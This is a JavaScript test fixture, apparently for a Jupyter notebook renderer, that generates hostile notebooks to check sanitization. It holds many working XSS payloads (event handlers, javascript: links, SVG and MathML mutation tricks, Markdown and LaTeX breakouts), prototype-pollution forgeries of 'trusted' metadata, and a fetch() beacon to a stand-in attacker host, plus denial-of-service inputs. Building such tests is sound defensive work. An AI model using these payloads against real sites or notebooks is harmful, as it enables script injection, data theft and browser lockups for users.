// Notebooks of somebody who means harm: each attack by its name, with the cell that tries it. `harm` is what must never run.

/** What an attack runs: it tells the test, changes the page, and asks a server of its own. No double quote and no angle bracket stands in it. */
const harmOf = (id, evil) => `document.title='harmed';top.harm('${id}');fetch('${evil}/${id}',{mode:'no-cors'})`;

const code = (source, outputs = [], more = {}) => ({ cell_type: 'code', id: crypto.randomUUID().slice(0, 8), metadata: {}, source, execution_count: null, outputs, ...more });
const text = (source, more = {}) => ({ cell_type: 'markdown', id: crypto.randomUUID().slice(0, 8), metadata: {}, source, ...more });
const display = (data, metadata = {}, more = {}) => ({ output_type: 'display_data', data, metadata, ...more });
const html = source => code('1', [display({ 'text/html': source })]);
const figure = (layout, data = [{ y: [1, 2] }], more = {}) => code('1', [display({ 'application/vnd.plotly.v1+json': { data, layout: { height: 160, ...layout }, ...more }, 'text/plain': 'figure' })]);
// JSON.stringify writes an own `__proto__`, which an object literal cannot have.
const withProto = (object, proto, name = '__proto__') => Object.defineProperty(object, name, { value: proto, enumerable: true, configurable: true, writable: true });
const base64 = words => Buffer.from(words).toString('base64');

/** Attacks by metadata: the output would run its script if the page believed what the notebook says of itself. */
const ofTrust = {
  'a cell that calls itself trusted in its metadata': show => code('1', [show], { metadata: { trusted: true } }),
  'trust as a text and as a number': show => code('1', [show], { metadata: { trusted: 'true', jupyter: { trusted: 1 } } }),
  'trust beside the metadata of a cell': show => code('1', [show], { trusted: true }),
  'trust in `__proto__` of the metadata of a cell': show => code('1', [show], { metadata: withProto({}, { trusted: true }) }),
  'trust in `__proto__` within `__proto__`': show => code('1', [show], { metadata: withProto({}, withProto({}, { trusted: true })) }),
  'trust in `constructor.prototype` of the metadata of a cell': show => code('1', [show], { metadata: { constructor: { prototype: { trusted: true } } } }),
  'trust in `__proto__` of a cell': show => withProto(code('1', [show]), { metadata: { trusted: true }, trusted: true }),
  'trust in `__proto__` within an array of the metadata': show => code('1', [show], { metadata: { tags: [withProto({}, { trusted: true })] } }),
  'trust in the metadata of an output, and in its `__proto__`': show => code('1', [{ ...show, trusted: true, metadata: withProto({ trusted: true }, { trusted: true }) }]),
  'trust in `__proto__` of an output': show => code('1', [withProto({ ...show }, { trusted: true })]),
  'an output whose data stands in `__proto__`': show => code('1', [{ ...show, data: withProto({}, show.data) }]),
  'an output that asks for a frame of its own (`isolated`)': show => code('1', [{ ...show, metadata: { isolated: true } }]),
  'an output that calls itself an update of a live one': show => code('1', [{ ...show, output_type: 'update_display_data', transient: { display_id: '1' } }]),
};

/** The same, where what matters is the text of the JSON. */
const ofText = {
  'trust in `__proto__`, its name written with escapes': cell => cell.replace('"metadata":{}', '"metadata":{"\\u005f\\u005fproto\\u005f\\u005f":{"trusted":true}}'),
  'trust in `constructor.prototype`, the names written with escapes': cell => cell.replace('"metadata":{}', '"metadata":{"\\u0063onstructor":{"protot\\u0079pe":{"trusted":true}}}'),
};

/** JSON of two minds, which is not read at all. */
const ofTwice = {
  'trust in a second `metadata` of the same cell': cell => cell.replace('"metadata":{}', '"metadata":{},"metadata":{"trusted":true}'),
};

/** Attacks by HTML. «press» is pressed by the test. */
const ofHtml = {
  'a script': harm => `<script>${harm}</script>`,
  'a script in a template and in a shadow root': harm => `<template><script>${harm}</script></template><div><template shadowrootmode="open"><script>${harm}</script><img src="x" onerror="${harm}"></template></div>`,
  'a script where the page puts those of live outputs': harm => `<i data-script="0"></i><i class="script-0"></i><script nonce="" type="module">${harm}</script>`,
  'a picture with `onerror`': harm => `<img src="x" onerror="${harm}"><img src=x:x onerror=${harm}>`,
  'a drawing with `onload` and `<script>`': harm => `<svg onload="${harm}"><script>${harm}</script><g onload="${harm}"></g></svg>`,
  'a drawing that animates a link into a script': harm => `<svg><a><animate attributeName="href" values="javascript:${harm}"></animate><set attributeName="href" to="javascript:${harm}"></set><text y="20">press</text></a></svg>`,
  'a drawing with `foreignObject` and `use` of a data address': harm => `<svg><foreignObject><iframe srcdoc="<script>${harm}</script>"></iframe></foreignObject><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='1'/>#x"></use></svg>`,
  'a frame with `srcdoc`': harm => `<iframe srcdoc="<script>${harm}</script>"></iframe>`,
  'a frame that leads to a script or to data': harm => `<iframe src="javascript:${harm}"></iframe><iframe src="data:text/html,<script>${harm}</script>"></iframe>`,
  'an object and an embedded document': harm => `<object data="javascript:${harm}"></object><object data="data:text/html,<script>${harm}</script>"></object><embed src="javascript:${harm}">`,
  'a link that leads to a script': harm => `<a href="javascript:${harm}">press</a><a href="&#1;java&#10;script&colon;${harm}" target="_blank">press</a><a href="vbscript:x">press</a>`,
  'a link that leads to a document of data': harm => `<a href="data:text/html,<script>${harm}</script>">press</a><a href="data:text/html,<script>${harm}</script>" target="_blank">press</a>`,
  'a refresh that leads away': (harm, evil) => `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'another base for all addresses': (harm, evil) => `<base href="${evil}/">`,
  'a form that sends': (harm, evil) => `<form action="${evil}/form" method="post"><input name="a" value="b"><button>press</button></form><button formaction="javascript:${harm}">press</button><form id="f" action="javascript:${harm}"></form><button form="f">press</button>`,
  'styles that load from elsewhere': (harm, evil) => `<style>@import '${evil}/import.css'; body { background: url(${evil}/body.png) }</style><p style="background:url(${evil}/style.png)">styled</p><link rel="stylesheet" href="${evil}/link.css"><link rel="preload" as="image" href="${evil}/preload.png"><link rel="dns-prefetch" href="${evil}">`,
  'pictures, sounds and films from elsewhere': (harm, evil) => `<img src="${evil}/img.png" srcset="${evil}/set.png 2x"><img src="https:elsewhere.example/scheme.png"><img src="\\\\elsewhere.example/slashes.png"><video src="${evil}/v.mp4" poster="${evil}/p.png" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio><table background="${evil}/t.png"><tr><td>t</td></tr></table><svg><image href="${evil}/svg.png"></image><rect fill="url(${evil}/f.svg#x)"></rect></svg>`,
  'handlers of animations and transitions': harm => `<style>@keyframes x { to { opacity: .5 } }</style><p style="animation:x 1ms" onanimationstart="${harm}" onanimationend="${harm}">moves</p><p style="transition:color 1ms" ontransitionend="${harm}">moves</p>`,
  'handlers of what opens, gets the focus or scrolls': harm => `<details open ontoggle="${harm}"><summary>press</summary>d</details><input autofocus onfocus="${harm}"><textarea autofocus onfocus="${harm}"></textarea><select autofocus onfocus="${harm}"></select><p contenteditable onfocus="${harm}" tabindex="0" oncontentvisibilityautostatechange="${harm}" style="content-visibility:auto">press</p>`,
  'handlers of the mouse': harm => `<p onclick="${harm}" onmouseover="${harm}" onpointerenter="${harm}" onwheel="${harm}">press</p><marquee onstart="${harm}">m</marquee>`,
  'handlers of sounds and films': harm => `<video onerror="${harm}"><source onerror="${harm}" src="x"></video><audio src="x" onerror="${harm}"></audio><body onload="${harm}" onpageshow="${harm}"><frameset onload="${harm}"></frameset>`,
  'formulas with links and actions': harm => `<math href="javascript:${harm}"><mi xlink:href="javascript:${harm}" href="javascript:${harm}">press</mi><maction actiontype="statusline#http://x" xlink:href="javascript:${harm}">press</maction><annotation-xml encoding="text/html"><script>${harm}</script><img src="x" onerror="${harm}"></annotation-xml></math>`,
  'HTML that changes when it is read twice (mglyph, style)': harm => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${harm}&gt;"></style></mglyph></table></mtext></math>`,
  'HTML that changes when it is read twice (form, svg, noscript)': harm => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${harm} src>"></form><svg></p><style><a id="</style><img src=1 onerror=${harm}>"></a></svg><noscript><p title="</noscript><img src=x onerror=${harm}>"></noscript>`,
  'HTML in comments, CDATA and raw text': harm => `<!--><img src=x onerror=${harm}>--><svg><![CDATA[><img src=x onerror=${harm}>]]></svg><xmp><p title="</xmp><img src=x onerror=${harm}>"></xmp><textarea><p title="</textarea><img src=x onerror=${harm}>"></textarea><title><p title="</title><img src=x onerror=${harm}>"></title>`,
  'names that hide the variables of the page': harm => `<a id="Plotly" href="javascript:${harm}">x</a><img name="currentScript"><form id="location" name="body"><input name="attributes"><input id="nodeType"></form><a id="harm"></a><img id="rnn" name="querySelector">`,
  'a look-alike of the number that runs a cell': () => `<div class="jp-Cell jp-CodeCell"><div class="jp-InputArea"><div class="jp-InputArea-prompt jp-InputPrompt lm-Widget">press</div></div></div>`,
  'a look-alike of a button, drawn over the page': () => `<div style="position:fixed;inset:0;z-index:99999;background:red" class="over">over all</div><div class="jp-Dialog notice over" style="position:fixed;inset:0;z-index:99999">over all</div>`,
  'a popover and a dialog above the page': () => `<button popovertarget="pop">press</button><div id="pop" popover class="over" style="position:fixed;inset:0">over all</div><dialog open class="over" style="position:fixed;inset:0;z-index:99999">over all</dialog>`,
};

/** Attacks in the text between the cells. */
const ofMarkdown = {
  'HTML in a text: script, picture, frame': (harm, evil) => `<script>${harm}</script><img src="x" onerror="${harm}"> <iframe src="${evil}"></iframe>\n\n<svg onload="${harm}"></svg>`,
  'links of Markdown that lead to a script': harm => { const address = harm.replaceAll('(', '%28').replaceAll(')', '%29'); return `[press](javascript:${address}) [press](<java\tscript:${address}>) <javascript:${address}> [press][r] [press](data:text/html;base64,${base64(`<script>${harm}</script>`)})\n\n[r]: javascript:${address}`; },
  'pictures of Markdown whose title breaks out': harm => `![a" onerror="${harm}](x "t\\" onerror=\\"${harm}") ![a](x" onerror="${harm}) ![a](javascript:x)`,
  'the language of a block of code that breaks out': harm => '```"><img src=x onerror="' + harm + '">\ncode\n```\n\n# <img src=x onerror="' + harm + '"> heading',
  'formulas with links, HTML and pictures': harm => `$\\href{javascript:${harm.replaceAll("'", '')}}{press}$ $\\htmlData{x=1" onclick="${harm}}{press}$ $\\includegraphics{javascript:x}$ $\\text{<img src=x onerror="${harm}">}$ $\\url{javascript:x}$`,
};

const ofOutputs = {
  'Markdown in an output': harm => code('1', [display({ 'text/markdown': `<script>${harm}</script><img src="x" onerror="${harm}"> [press](javascript:${harm.replaceAll('(', '%28').replaceAll(')', '%29')})` })]),
  'a drawing as an output (SVG)': (harm, evil) => code('1', [display({ 'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="${harm}"><script>${harm}</script><image href="${evil}/svg-output.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${harm}&lt;/script>"/></foreignObject></svg>` })]),
  'JavaScript as an output': harm => code('1', [display({ 'application/javascript': harm }), display({ 'text/javascript': harm }), display({ 'text/javascript': harm, 'text/plain': 'text' })]),
  'LaTeX as an output': harm => code('1', [display({ 'text/latex': `$\\href{javascript:${harm.replaceAll("'", '')}}{press} \\htmlId{x}{y} \\text{<img src=x onerror="${harm}">}$ <img src=x onerror="${harm}">` })]),
  'LaTeX that covers the page': () => code('1', [display({ 'text/latex': '$\\rule{99999em}{99999em}$ $\\kern{-999em}\\raise{999em}{\\colorbox{red}{over}}$' })]),
  'a picture whose data breaks out': harm => code('1', [display({ 'image/png': `x" onerror="${harm}` }, { 'image/png': { width: `1" onerror="${harm}`, height: `"><img src=x onerror="${harm}">` } })]),
  'a picture that is HTML': harm => code('1', [display({ 'image/png': base64(`<script>${harm}</script>`), 'image/jpeg': base64(`<svg onload="${harm}">`) })]),
  'a widget of Jupyter, and other types that front ends run': harm => code('1', [display({ 'application/vnd.jupyter.widget-view+json': { model_id: `<img src=x onerror="${harm}">`, version_major: 2 }, 'text/plain': 'widget' }), display({ 'application/vnd.bokehjs_exec.v0+json': harm, 'application/vnd.bokehjs_load.v0+json': harm, 'application/vnd.holoviews_exec.v0+json': harm }), display({ 'application/vnd.dotnet.exec+json': harm, 'text/html; charset=utf-8': `<script>${harm}</script>`, 'TEXT/HTML': `<script>${harm}</script>` })]),
  'printed text with HTML, colours and links': harm => code('1', [{ output_type: 'stream', name: 'stdout', text: `<img src=x onerror="${harm}"><script>${harm}</script>\u001b[31m<b onmouseover="${harm}">press</b>\u001b[0m\u001b]8;;javascript:${harm}\u0007press\u001b]8;;\u0007 javascript://x/%0a${harm} ` }, { output_type: 'stream', name: '"><img src=x>', text: `<img src=x onerror="${harm}">` }]),
  'an error with HTML in its name, message and stack': harm => code('1', [{ output_type: 'error', ename: `<img src=x onerror="${harm}">`, evalue: `<script>${harm}</script>`, traceback: [`<img src=x onerror="${harm}">`, `\u001b[31m<svg onload="${harm}">\u001b[0m`, `javascript://x/%0a${harm}`] }]),
  'the number of a cell that is HTML': harm => code('1', [{ ...display({ 'text/plain': 'a' }), output_type: 'execute_result', execution_count: `<img src=x onerror="${harm}">` }], { execution_count: `<img src=x onerror="${harm}">` }),
  'a raw cell with HTML': harm => ({ cell_type: 'raw', id: 'raw1', metadata: { raw_mimetype: 'text/html', format: 'text/html' }, source: `<script>${harm}</script><img src="x" onerror="${harm}">` }),
  'a cell of parameters with HTML in names, values and comments': harm => code(`var text = "<img src=x onerror='${harm.replaceAll("'", '`')}'>"; // <img src=x onerror="${harm}">\nvar rate = 0.1; // 0 … <script>${harm}</script>`, [], { metadata: { tags: ['parameters', `<img src=x onerror="${harm}">`] } }),
  'attachments that are SVG, HTML or JavaScript': harm => text('![a](attachment:a.svg) ![b](attachment:b.html) ![c](attachment:c.js) [press](attachment:b.html) <iframe src="attachment:b.html"></iframe> <object data="attachment:a.svg"></object> ![d](attachment:javascript:x)', { attachments: { 'a.svg': { 'image/svg+xml': base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${harm}"><script>${harm}</script></svg>`) }, 'b.html': { 'text/html': base64(`<script>${harm}</script>`) }, 'c.js': { 'application/javascript': base64(harm) }, 'javascript:x': { 'image/png': `x" onerror="${harm}` } } }),
};

/** Attacks by plotly figures. */
const ofFigures = {
  'a figure with HTML in its titles, names and hover texts': harm => { const bad = `<img src=x onerror="${harm}"><script>${harm}</script><a href="javascript:${harm}">press</a><b onclick="${harm}">press</b>`; return figure({ title: { text: bad }, xaxis: { title: { text: bad } }, legend: { title: { text: bad } }, showlegend: true, hovermode: 'closest' }, [{ y: [1, 2], name: bad, text: [bad, bad], hovertext: bad, hovertemplate: bad + '<extra>' + bad + '</extra>', mode: 'markers+text', marker: { size: 40 } }]); },
  'a figure with links to scripts in its annotations': harm => figure({ annotations: [`<a href="javascript:${harm}">press</a>`, `<a href="java&#10;script:${harm}" target="_top">press</a>`, `<a xlink:href="javascript:${harm}" href="data:text/html,x">press</a>`, `<a href="http://x" popup="width=1');${harm};('">press</a>`, `<span style="background:url(javascript:x)" onclick="${harm}">press</span>`].map((text, at) => ({ x: 0.2 * at, y: 1, text, captureevents: true, hovertext: text, clicktoshow: 'onoff', onclick: harm })) }),
  'a figure with handlers in its layout, its data and its settings': harm => figure({ onclick: harm, onload: harm, meta: { onload: harm }, xaxis: { onclick: harm, tickformat: `${harm}` } }, [{ y: [1, 2], onclick: harm, customdata: [harm] }], { config: { onclick: harm, modeBarButtonsToAdd: [{ name: '<img src=x>', click: harm, icon: { path: 'x" onload="' + harm, svg: `<svg onload="${harm}">` } }], editable: true, toImageButtonOptions: { filename: '<img>' } } }),
  'a figure that sends or loads by its settings': (harm, evil) => figure({ images: [{ source: `${evil}/image.png`, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 1, sizey: 1 }] }, [{ type: 'scattergeo', lat: [1], lon: [1] }], { config: { plotlyServerURL: evil, showSendToCloud: true, showLink: true, linkText: 'press', showEditInChartStudio: true, topojsonURL: `${evil}/`, displayModeBar: true } }),
  'a figure whose buttons and frames change prototypes': harm => figure({ updatemenus: [{ type: 'buttons', buttons: [{ label: 'press', method: 'relayout', args: [{ '__proto__.harmed': 1, 'constructor.prototype.harmed': 1, 'title.text': `<img src=x onerror="${harm}">` }] }, { label: 'press', method: 'restyle', args: [withProto({ '__proto__.harmed': 1 }, { harmed: 1 })] }, { label: 'press', method: `${harm}`, args: [] }] }], sliders: [{ steps: [{ label: 'press', method: 'animate', args: [['f'], { frame: { duration: 0 } }] }] }], template: withProto({}, { harmed: 1 }) }, [withProto({ y: [1, 2], transforms: [{ type: 'filter', target: 'y', operation: `${harm}`, value: 1 }] }, { harmed: 1 })], { frames: [withProto({ name: 'f', data: [{ y: [2, 1], text: [`<img src=x onerror="${harm}">`] }], layout: { '__proto__.harmed': 1, title: { text: `<a href="javascript:${harm}">press</a>` } } }, { harmed: 1 })] }),
};

const notebook = (cells, metadata = {}) => ({ nbformat: 4, nbformat_minor: 5, metadata: { kernelspec: { name: '.net-csharp', display_name: '.NET (C#)', language: 'C#' }, ...metadata }, cells });

/** A notebook whose texts and outputs would keep a browser busy for minutes, or lead it too deep; and one text in the end that is as any. */
export function slowNotebook() {
  const long = (piece, number) => piece.repeat(number);
  const texts = {
    'emphasis that is never closed': long('*a ', 60_000),
    'emphasis of two kinds that is never closed': long('**_a ', 30_000),
    'quotes within quotes': long('>', 20_000) + 'a',
    'lists within lists': long('- ', 20_000) + 'a',
    'brackets that are never closed': long('![[', 40_000),
    'code that is never closed': Array.from({ length: 600 }, (_, at) => long('`', at)).join(' '),
    'more formulas than anyone reads': long('$x$ ', 25_000),
    'braces within braces in a formula': `$${long('{', 20_000)}x${long('}', 20_000)}$`,
    'a macro that expands without end': '$\\def\\a{\\a\\a}\\a$ $\\def\\b#1{\\b{#1#1}}\\b{x}$',
    'a heading with a long gap': `# a${long(' ', 100_000)}b`,
    'a heading of underscores': `# $${long('_', 60_000)}!$`,
  };
  const deep = (open, close) => long(open, 20_000) + 'deep' + long(close, 20_000);
  const outputs = {
    'elements within elements in HTML': display({ 'text/html': deep('<div>', '</div>') }),
    'drawings and formulas within each other': display({ 'text/html': deep('<svg><g>', '</g></svg>') + deep('<math><mrow>', '</mrow></math>') }),
    'more HTML than a page shows': display({ 'text/html': `<table>${long('<tr><td>many</td></tr>', 400_000)}</table>` }),
    'one line of printed text without end': { output_type: 'stream', name: 'stdout', text: long('a', 2_000_000) },
  };
  return {
    names: [...Object.keys(texts), ...Object.keys(outputs)],
    notebook: notebook([text('# Slow'), ...Object.values(texts).map(source => text(source)), ...Object.values(outputs).map(output => code('1', [output])), text('The **last** text: $x_t$.')]),
  };
}

/** A notebook whose cells all bear the same output, with a script in it. */
export const scriptedNotebook = (id, evil, sources, title = '# Hostile') =>
  notebook([text(title), ...sources.map(source => withProto(code(source, [display({ 'text/html': `<b>a chart</b><script>${harmOf(id, evil)}</script><img src="x" onerror="${harmOf(id, evil)}">` })], { metadata: withProto({ trusted: true }, { trusted: true }) }), { trusted: true }))]);

const ofWhole = 'trust in the metadata of the notebook and in its `__proto__`';

/** Notebooks with all attacks: for each its text and the names of the attacks in it; and the names by the ids that the attacks tell. */
export function hostileNotebooks(evil) {
  const ids = new Map();
  const of = (name, make) => {
    const id = `h${ids.size + 1}`;
    ids.set(id, name);
    return make(harmOf(id, evil));
  };
  const all = (attacks, cell) => Object.entries(attacks).map(([name, make]) => of(name, harm => cell(make, harm)));
  const scripted = harm => display({ 'text/html': `<b>a chart</b><script>${harm}</script><img src="x" onerror="${harm}">` });
  const ofCells = cells => `{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[${cells.join(',')}]}`;
  const made = (make, harm) => make(harm, evil);
  const whole = of(ofWhole, harm => notebook([text('# Hostile'), ...all(ofTrust, (make, harm) => make(scripted(harm))), code('1', [scripted(harm)])], withProto({ trusted: true }, { trusted: true })));
  const notebooks = {
    trust: { text: JSON.stringify(withProto(whole, { trusted: true })), names: [ofWhole, ...Object.keys(ofTrust)] },
    escapes: { text: ofCells(all(ofText, (change, harm) => change(JSON.stringify(code('1', [scripted(harm)]))))), names: Object.keys(ofText) },
    twice: { text: ofCells(all(ofTwice, (change, harm) => change(JSON.stringify(code('1', [scripted(harm)]))))), names: Object.keys(ofTwice) },
    html: { text: JSON.stringify(notebook(all(ofHtml, (make, harm) => html(made(make, harm))))), names: Object.keys(ofHtml) },
    // All HTML is tried in the texts as well: as a block, and within a line.
    markdown: {
      text: JSON.stringify(notebook([
        ...all(ofMarkdown, (make, harm) => text(made(make, harm))),
        ...all(ofHtml, (make, harm) => text(`A text.\n\n${made(make, harm)}\n\n${made(make, harm).replaceAll('\n', ' ')} and on.`)),
      ])),
      names: Object.keys(ofMarkdown),
    },
    outputs: { text: JSON.stringify(notebook(all(ofOutputs, made))), names: Object.keys(ofOutputs) },
    figures: { text: JSON.stringify(notebook(all(ofFigures, made))), names: Object.keys(ofFigures) },
  };
  return { notebooks, ids };
}
